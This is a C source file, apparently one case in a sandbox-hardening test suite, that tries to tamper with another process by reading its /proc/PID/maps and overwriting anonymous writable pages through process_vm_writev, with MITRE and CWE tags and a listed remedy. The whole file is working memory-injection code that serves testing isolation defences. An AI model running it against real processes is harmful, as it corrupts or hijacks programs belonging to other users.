// SPDX-License-Identifier: MIT
/*
 * Goal:  another process goes on with other data, although nobody can read its memory.
 * Means: process_vm_writev(2) alone: /proc/PID/maps says where memory is that belongs to no file,
 *        and each page of it is written over.
 */
#include "attacks/peer-tampering/target.h"

#include <sys/uio.h>

#define PAGE 4096

static bool overwrite(pid_t pid, unsigned long at)
{
	static char forged[16] = "not what it was";
	struct iovec here = { forged, sizeof(forged) }, there = { (void *)at, sizeof(forged) };

	return process_vm_writev(pid, &here, 1, &there, 1, 0) == sizeof(forged);
}

static enum claim run(const struct brief *b)
{
	unsigned long from, to, inode, pages = 1024;
	char path[64], line[512], perms[8], name[8];
	bool written = false;
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", target(b));
	attempting(b);
	maps = fopen(path, "re");
	if (!maps)
		return denied("/proc/PID/maps");
	while (fgets(line, sizeof(line), maps)) {
		int fields = sscanf(line, "%lx-%lx %7s %*s %*s %lu %7s", &from, &to, perms, &inode,
				    name);

		for (; fields == 4 && perms[1] == 'w' && from < to && pages; from += PAGE, pages--)
			written |= overwrite(target(b), from + PAGE / 2);
	}
	fclose(maps);
	return written ? CLAIM_DONE : denied("process_vm_writev");
}

const struct attack attack = {
	.effect = "another process's memory is changed while it runs",
	.means = "process_vm_writev(2) without process_vm_readv(2), wherever memory has no file",
	.oracle = "bystander",
	.id = "PEER-07",
	.attack_id = "T1055, CWE-269",
	.remedy = "seccomp; Landlock (a domain may not trace its outside); a non-dumpable worker",
	.refs = (const char *const[]){ "process_vm_writev(2)", "proc_pid_maps(5)", NULL },
	.run = run,
};
